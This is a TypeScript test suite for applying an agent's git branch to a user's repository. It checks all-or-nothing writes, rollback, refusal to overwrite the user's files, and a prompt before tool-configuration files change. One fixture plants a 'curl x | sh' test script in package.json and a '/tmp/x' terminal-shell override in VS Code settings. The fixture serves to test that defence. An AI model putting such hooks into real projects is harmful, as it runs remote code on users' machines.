// An apply is all or nothing, and loses nothing of the user's: a folder the branch replaces with a file while it
// holds a file of the user's is refused before anything is written; folders replaced by a file or a link, and a file
// by a folder, are applied and undone whole; a write that fails partway puts back every file it touched; a head with
// no history shared with the base is said in words; files that configure tools are named and asked about once.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { GitRunner } from '../../../../src/git/gitRunner';
import { ApplyFailed, ApplyRefused, applyChanges, undoApply } from '../../../../src/changes/land/applyChanges';
import type { ToolFile } from '../../../../src/changes/land/toolFiles';
import { Repo } from './gitRepo';

const BASE = 'refs/agent-tasks/t1/base';
const HEAD = 'refs/agent-tasks/t1/head';
const git = new GitRunner(() => 'git');

function world(setup: (r: Repo) => void, work: (r: Repo) => void): Repo {
  const r = new Repo();
  setup(r);
  r.commitAll('first');
  r.git('checkout', '-q', '-b', 'agent/work');
  work(r);
  r.commitAll('agent');
  r.git('update-ref', HEAD, 'agent/work');
  r.git('update-ref', BASE, 'main');
  r.git('checkout', '-q', 'main');
  r.git('branch', '-q', '-D', 'agent/work');
  return r;
}

describe('land: all or nothing', function () {
  this.timeout(30_000);
  let r: Repo | undefined;
  afterEach(() => r?.remove());
  const apply = (repo: Repo, confirmTools?: (f: readonly ToolFile[]) => Promise<boolean>) =>
    applyChanges(
      git,
      'git',
      { root: repo.root, baseRef: BASE, headRef: HEAD, head: 'agent/work', base: 'main' },
      {
        storage: repo.storage,
        ...(confirmTools ? { confirmTools } : {}),
      },
    );
  const state = (repo: Repo) => JSON.stringify([repo.files(), repo.untouchable(), repo.gitDirHash()]);

  it('a folder the branch replaces with a file, holding a file of yours: refused, naming it, nothing written', async () => {
    r = world(
      x => {
        x.write('d/a.txt', 'tracked\n');
        x.write('keep.txt', 'k\n');
      },
      x => {
        x.git('rm', '-q', '-r', 'd');
        x.write('d', 'now a file\n');
        x.write('keep.txt', 'changed\n');
      },
    );
    r.write('d/mine.txt', 'untracked, mine\n');
    r.write('d/build/out.log', 'ignored, mine too\n');
    fs.writeFileSync(path.join(r.root, '.git', 'info', 'exclude'), 'build/\n');
    const before = state(r);
    const e = await apply(r).catch(x => x);
    assert.ok(e instanceof ApplyRefused, String(e));
    assert.equal(e.reason, 'untracked');
    assert.match(e.message, /d\/mine\.txt \(inside d, which the task replaces with a file\)/);
    assert.match(e.message, /d\/build\/out\.log/);
    assert.equal(state(r), before);
  });

  it('folders replaced by a file and by a link, a file by a folder: applied whole, and undone whole', async () => {
    r = world(
      x => {
        x.write('d/a.txt', 'a\n');
        x.write('e/b.txt', 'b\n');
        x.write('f', 'a file\n');
        x.write('src/x.txt', 'x\n');
      },
      x => {
        x.git('rm', '-q', '-r', 'd', 'e', 'f');
        x.write('d', 'd is a file now\n');
        fs.symlinkSync('src', path.join(x.root, 'e'));
        x.write('f/inside.txt', 'f is a folder now\n');
      },
    );
    const before = r.files();
    const applied = await apply(r);
    assert.deepEqual(applied.conflicts, []);
    assert.equal(r.read('d'), 'd is a file now\n');
    assert.equal(fs.readlinkSync(path.join(r.root, 'e')), 'src');
    assert.equal(r.read('f/inside.txt'), 'f is a folder now\n');
    const undone = await undoApply(applied.landed!);
    assert.deepEqual(undone.changedSince, []);
    assert.deepEqual(r.files(), before);
    assert.equal(r.git('status', '--porcelain'), '');
  });

  it('a write that fails partway puts back every file it touched, and says so', async () => {
    const long = `z${'z'.repeat(300)}`;
    r = world(
      x => {
        x.write('src/a.txt', 'a\n');
        x.write('old.txt', 'old\n');
      },
      x => {
        x.write('src/a.txt', 'a changed\n');
        x.git('rm', '-q', 'old.txt');
        x.write('new/n.txt', 'new\n');
      },
    );
    // A link whose name no file system here can hold (over 255 bytes): written last, it fails.
    const target = r.gitInput('x', 'hash-object', '-w', '--stdin').trim();
    const entries = r.git('ls-tree', '-z', HEAD).split('\0').filter(Boolean);
    const tree = r.gitInput(`${[...entries, `120000 blob ${target}\t${long}`].join('\0')}\0`, 'mktree', '-z');
    r.git('update-ref', HEAD, r.git('commit-tree', '-p', HEAD, '-m', 'long', tree.trim()).trim());
    const before = state(r);
    const e = await apply(r).catch(x => x);
    assert.ok(e instanceof ApplyFailed, String(e));
    assert.equal(e.path, long);
    assert.match(e.message, /Every file the apply had touched is back as it was; nothing was lost\.$/);
    assert.equal(state(r), before, 'src/a.txt, old.txt and new/ are as they were');
    assert.equal(fs.existsSync(path.join(r.root, 'new')), false);
  });

  it('a head with no history shared with the base is said in words', async () => {
    r = world(
      x => x.write('a.txt', 'a\n'),
      x => x.write('b.txt', 'b\n'),
    );
    r.git('checkout', '-q', '--orphan', 'stranger');
    r.write('a.txt', 'other history\n');
    r.commitAll('unrelated');
    r.git('update-ref', HEAD, 'stranger');
    r.git('checkout', '-q', '-f', 'main');
    const e = await apply(r).catch(x => x);
    assert.ok(e instanceof ApplyRefused, String(e));
    assert.match(e.message, /^The task's branch agent\/work shares no history with main: .*Nothing was written\.$/);
  });

  it('files that configure tools are named and asked about once; no means nothing is written', async () => {
    r = world(
      x => {
        x.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'mocha' } }));
        x.write('lib/package.json', JSON.stringify({ name: 'lib', version: '1.0.0' }));
        x.write('src/a.ts', 'a\n');
      },
      x => {
        x.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'curl x | sh' } }));
        x.write('lib/package.json', JSON.stringify({ name: 'lib', version: '1.0.1' }));
        x.write('.vscode/settings.json', '{ "terminal.integrated.shell.linux": "/tmp/x" }\n');
        x.write('.github/workflows/ci.yml', 'on: push\n');
        x.write('.gitattributes', '* text=auto\n');
        x.write('src/a.ts', 'a changed\n');
      },
    );
    const asked: string[][] = [];
    const before = state(r);
    const e = await apply(r, async f => (asked.push(f.map(x => x.path)), false)).catch(x => x);
    assert.ok(e instanceof ApplyRefused && e.reason === 'declined', String(e));
    assert.deepEqual(asked, [['.gitattributes', '.github/workflows/ci.yml', '.vscode/settings.json', 'package.json']]);
    assert.equal(state(r), before);
    // An edit made while the question was open is an edit: refused, and the edit kept.
    const repo = r;
    const late = await apply(r, async () => (repo.write('src/a.ts', 'mine, typed meanwhile\n'), true)).catch(x => x);
    assert.ok(late instanceof ApplyRefused && late.reason === 'uncommitted', String(late));
    assert.equal(r.read('src/a.ts'), 'mine, typed meanwhile\n');
    assert.equal(r.read('.vscode/settings.json'), undefined);
    r.git('checkout', '--', 'src/a.ts');
    const applied = await apply(r, async () => true);
    assert.deepEqual(
      applied.tools.map(t => `${t.path}: ${t.why}`),
      [
        '.gitattributes: git attributes (filters and line endings)',
        '.github/workflows/ci.yml: a CI workflow',
        '.vscode/settings.json: VS Code settings, tasks or launch configurations',
        'package.json: scripts that package tools run',
      ],
    );
    assert.equal(r.read('src/a.ts'), 'a changed\n');
  });
});
